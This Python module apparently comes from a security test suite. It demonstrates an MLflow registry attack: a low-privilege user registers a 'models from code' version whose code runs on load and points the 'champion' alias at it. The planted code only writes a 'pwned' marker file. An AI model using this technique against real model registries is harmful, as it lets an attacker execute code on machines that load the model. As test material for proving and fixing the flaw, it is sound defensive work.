"""What an attacker with an account on the tracking server can plant: models whose code runs on load.

In auth mode any user, READ included, may create a registered model (MLflow makes its creator
MANAGE on it) and point its ``champion`` alias at a version of their choosing. The version's
pyfunc is "models from code": a code file that MLflow imports when it loads the model.
``register_evil`` registers such a version whose code writes ``marker`` when imported, with a
valid hitsong bundle beside the code or with none at all.
"""

from __future__ import annotations

from pathlib import Path

import mlflow
import numpy as np

from hitsong.bundle import save_bundle
from hitsong.models import build_model
from hitsong.models.config import ModelConfig
from hitsong.settings import DEFAULT_TAGGER
from registry.api import RegistryApi


def evil_code(marker: Path) -> str:
    """A models-from-code file that writes ``marker`` when imported."""
    return (
        "import pathlib\n"
        "import mlflow\n"
        f"pathlib.Path({str(marker)!r}).write_text('pwned')\n"
        "class Evil(mlflow.pyfunc.PythonModel):\n"
        "    def predict(self, context, model_input, params=None):\n"
        "        return model_input\n"
        "mlflow.models.set_model(Evil())\n"
    )


def register_evil(uri: str, name: str, tmp: Path, marker: Path, *, with_bundle: bool) -> str:
    """Log the evil pyfunc, register it as a version of ``name`` and make it ``champion``.

    Runs as whoever MLflow's client credentials (``MLFLOW_TRACKING_USERNAME``/``PASSWORD``)
    name. Returns the version. ``marker`` is removed after logging (MLflow imports the code
    while logging it: that is the attacker's own machine).
    """
    code = tmp / f"{name}_code.py"
    code.write_text(evil_code(marker))
    artifacts = {}
    if with_bundle:
        config = ModelConfig.tiny(n_mels=128, n_tags=50)
        artifacts["bundle"] = str(
            save_bundle(
                tmp / f"{name}-bundle", build_model("m4", config), method="m4", model_config=config,
                target_mean=20.0, target_std=5.0, catalog=np.linspace(5.0, 35.0, 11), subset="attack",
                tagger=DEFAULT_TAGGER,
            )
        )  # fmt: skip
    mlflow.set_tracking_uri(uri)
    mlflow.set_experiment("attacker")
    with mlflow.start_run() as run:
        info = mlflow.pyfunc.log_model(name="model", python_model=str(code), artifacts=artifacts or None)
    marker.unlink(missing_ok=True)
    api = RegistryApi(uri)
    api.ensure_model(name)
    version = api.create_version(name, source=info.model_uri, run_id=run.info.run_id, model_id=info.model_id, tags={})
    api.set_alias(name, "champion", version)
    return version
